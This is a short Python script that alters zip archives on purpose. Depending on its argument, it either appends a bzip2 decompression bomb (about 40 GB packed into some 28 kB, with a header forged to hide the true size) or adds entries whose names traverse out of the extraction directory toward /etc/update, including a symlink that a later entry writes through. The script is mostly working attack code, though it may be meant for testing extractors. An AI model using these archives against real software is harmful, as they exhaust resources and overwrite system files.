"""Does harm to a zip archive: adds what zip itself refuses to write. Arguments: archive, kind of harm, image."""

import bz2
import stat
import struct
import sys
import zipfile

BLOCK_MAGIC, END_MAGIC = 0x314159265359, 0x177245385090
BLOCK = 45_899_235  # zeros that fill a block of bzip2


def bits_of(data: bytes) -> str:
    return f"{int.from_bytes(data, 'big'):0{8 * len(data)}b}"


def bomb(blocks: int) -> bytes:
    """Zeros in bzip2, some forty bytes to a block of 46 MB: what it unpacks to need not be written first."""
    start, block = bits_of(bz2.compress(bytes(2 * BLOCK))).split(f"{BLOCK_MAGIC:048b}")[:2]
    crc = 0
    for _ in range(blocks):
        crc = (crc << 1 & 0xFFFFFFFF | crc >> 31) ^ int(block[:32], 2)
    bits = start + f"{BLOCK_MAGIC:048b}{block}" * blocks + f"{END_MAGIC:048b}{crc:032b}"
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def add_bomb(archive: zipfile.ZipFile, name: str) -> None:
    """A file of 40 GB in 28 kB; its headers tell less."""
    data = bomb(40_000_000_000 // BLOCK + 1)
    info = zipfile.ZipInfo(name)
    archive.writestr(info, data)
    info.compress_type, info.extract_version = zipfile.ZIP_BZIP2, 46
    assert archive.fp
    end = archive.fp.tell()
    archive.fp.seek(info.header_offset + 8)
    archive.fp.write(struct.pack("<H", zipfile.ZIP_BZIP2))
    archive.fp.seek(info.header_offset + 22)
    archive.fp.write(struct.pack("<L", 0xFFFFFFFF))
    archive.fp.seek(end)
    info.file_size = 0xFFFFFFFF


def add_climbers(archive: zipfile.ZipFile) -> None:
    """Names that lead out of wherever they are unpacked, and a link that what follows it goes through."""
    for name in ("../../../../../etc/update/evil", "/etc/update/evil", "x/../../../../../../etc/update/evil"):
        archive.writestr(zipfile.ZipInfo(name), "evil")
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    archive.writestr(link, "/etc/update")
    archive.writestr(zipfile.ZipInfo("link/evil"), "evil")


def main(path: str, kind: str, image: str) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        if kind == "bomb":
            add_bomb(archive, image)
        else:
            add_climbers(archive)


if __name__ == "__main__":
    main(*sys.argv[1:])
